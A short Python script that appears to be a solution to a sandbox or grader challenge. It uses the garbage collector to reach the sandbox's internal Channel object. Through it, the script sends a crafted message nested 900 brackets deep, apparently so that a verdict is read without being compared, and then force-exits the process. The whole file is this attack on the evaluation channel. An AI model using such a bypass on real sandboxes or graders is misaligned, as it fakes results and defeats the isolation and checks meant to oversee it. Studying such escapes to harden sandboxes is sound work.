# expect: SV
# alone: SV
# real: no (it speaks for itself alone, and would gain no more without)
# tries: a message that can just be read, and not be compared
import gc
import os

from sandbox.channel import Channel


def channel():
    return next(found for found in gc.get_objects() if type(found) is Channel)


def solve():
    channel().send(b"V[" + b"[" * 900 + b"]" * 900 + b',0,""]')
    os._exit(0)
